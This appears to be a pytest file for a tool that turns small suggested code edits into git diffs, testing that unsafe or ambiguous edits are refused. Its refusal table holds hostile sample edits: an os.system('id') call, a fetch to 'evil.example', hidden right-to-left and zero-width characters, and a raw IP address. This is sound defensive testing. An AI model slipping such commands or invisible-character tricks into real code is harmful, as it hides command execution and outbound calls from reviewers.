"""Only small changes of code that the evidence speaks of are ever proposed, and they apply where they say."""

from __future__ import annotations

import subprocess
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from investigator.models.suggestion import Edit
from investigator.patching.edits import NotAllowed, Original, Patch, patched

PATH = "checkout/pricing.py"
SOURCE = "def unit_price(order):\n    total = order.total\n    return total / order.quantity\n"
GUARD = "    if not order.quantity:\n        return 0\n    return total / order.quantity"


def edit(**changed: Any) -> Edit:
    return Edit(**{"path": PATH, "search": "    return total / order.quantity", "replace": GUARD, **changed})


def made(*edits: Edit, text: str | None = SOURCE, mode: int | None = 0o100644) -> Patch:
    originals = {each.path: Original(text=text, mode=mode) for each in edits}
    return patched(edits, originals, {each.path for each in edits})


def test_a_small_change_of_code_becomes_a_diff() -> None:
    patch = made(edit())
    assert patch.files == {
        PATH: SOURCE.replace(
            "    return total", "    if not order.quantity:\n        return 0\n    return total"
        )
    }
    assert "+    if not order.quantity:" in patch.diff
    assert patch.checked == (f"{PATH} still parses as Python",)


REFUSED: dict[str, tuple[dict[str, Any], str]] = {
    "lines that are not there": ({"search": "    return total // order.quantity"}, "stand nowhere"),
    "part of a line": ({"search": "return total"}, "stand nowhere"),
    "no lines": ({"search": "\n"}, "does not say which lines"),
    "no change": ({"replace": "    return total / order.quantity"}, "changes nothing"),
    "broken Python": ({"replace": "    return total / ("}, "does not parse as Python"),
    "a secret it was not shown": (
        {"replace": '    return "[secret:password:1]"'},
        "touches a line with a secret",
    ),
    "text from right to left": ({"replace": "    return 1  # \u202eadmin"}, "nobody can see"),
    "zero width": ({"replace": "    return to\u200btal"}, "nobody can see"),
    "a command": ({"replace": '    return os.system("id")'}, "runs, decodes or loads something"),
    "a download": ({"replace": '    return fetch("https://evil.example/x")'}, "names an address"),
    "an address by number": ({"replace": '    return "10.1.2.3"'}, "names an address"),
    "too much": ({"replace": "    pass\n" * 90}, "larger than"),
    "a line without end": ({"replace": "    x = 1" + " " * 500}, "larger than"),
}


@pytest.mark.parametrize(("changed", "why"), REFUSED.values(), ids=REFUSED)
def test_what_is_not_a_small_change_of_code_is_refused_with_its_reason(
    changed: dict[str, Any], why: str
) -> None:
    with pytest.raises(NotAllowed, match=why):
        made(edit(**changed))


def test_lines_that_stand_twice_are_ambiguous() -> None:
    with pytest.raises(NotAllowed, match="stand 2 times"):
        made(edit(search="x = 1", replace="x = 2"), text="x = 1\nx = 1\n")


def test_edits_that_overlap_are_refused() -> None:
    first = edit(search="    total = order.total\n    return total / order.quantity", replace="    return 1")
    with pytest.raises(NotAllowed, match="overlap"):
        made(first, edit())


def test_too_many_files_are_refused() -> None:
    with pytest.raises(NotAllowed, match="4 files"):
        made(*(edit(path=f"checkout/{name}.py") for name in "abcd"))


@pytest.mark.parametrize(
    ("text", "mode", "why"),
    [
        (None, None, "not a text file"),
        (SOURCE, 0o120000, "symbolic link"),
        (SOURCE, 0o160000, "symbolic link or a submodule"),
        (SOURCE + "\0", None, "not text"),
    ],
)
def test_what_is_not_a_regular_text_file_is_refused(text: str | None, mode: int | None, why: str) -> None:
    with pytest.raises(NotAllowed, match=why):
        made(edit(), text=text, mode=mode)


def test_a_file_whose_language_we_cannot_parse_keeps_its_brackets() -> None:
    code = "fn price(o: Order) -> u64 {\n    o.total / o.count\n}\n"
    guarded = edit(
        path="src/price.rs", search="    o.total / o.count", replace="    o.total / o.count.max(1)"
    )
    assert "only its brackets were counted" in made(guarded, text=code).checked[0]
    with pytest.raises(NotAllowed, match="other brackets"):
        made(guarded.model_copy(update={"replace": "    if o.count > 0 {"}), text=code)


def test_lines_can_be_removed_and_windows_line_ends_stay() -> None:
    text = SOURCE.replace("\n", "\r\n")
    patch = made(edit(search="    total = order.total", replace="    total = 1"), text=text)
    assert patch.files[PATH] == text.replace("order.total", "1", 1)
    assert (
        made(edit(search="x = 2", replace=""), text="x = 1\nx = 2\ny = 3\n").files[PATH] == "x = 1\ny = 3\n"
    )


@settings(max_examples=25, deadline=None)
@given(
    st.lists(st.sampled_from(["a = 1", "b = [", "]", "", "\f", "é = 'ü'", "\u2028"]), min_size=1, max_size=9),
    st.booleans(),
    st.data(),
)
def test_git_applies_every_diff_and_makes_of_it_the_same_files(
    tmp_path_factory: pytest.TempPathFactory, lines: list[str], ended: bool, data: st.DataObject
) -> None:
    at = data.draw(st.integers(0, len(lines)))
    lines = [*lines[:at], "the one line", *lines[at:]]
    text = "\n".join(lines) + ("\n" if ended else "")
    replace = data.draw(st.sampled_from(["", "new", "new\nlines\n", "-- sql", "++ more"]))
    path = "src/with space/ü.txt2"
    patch = made(edit(path=path, search="the one line", replace=replace), text=text)
    folder = tmp_path_factory.mktemp("apply")
    assert applied(folder, path, text, patch.diff) == patch.files[path]


def applied(folder: Path, path: str, text: str, diff: str) -> str:
    file = folder / path
    file.parent.mkdir(parents=True)
    file.write_bytes(text.encode())
    command = ["git", "-c", "core.autocrlf=false", "apply", "--whitespace=nowarn"]
    subprocess.run(command, cwd=folder, input=diff.encode(), check=True, capture_output=True, timeout=20)
    return file.read_bytes().decode()
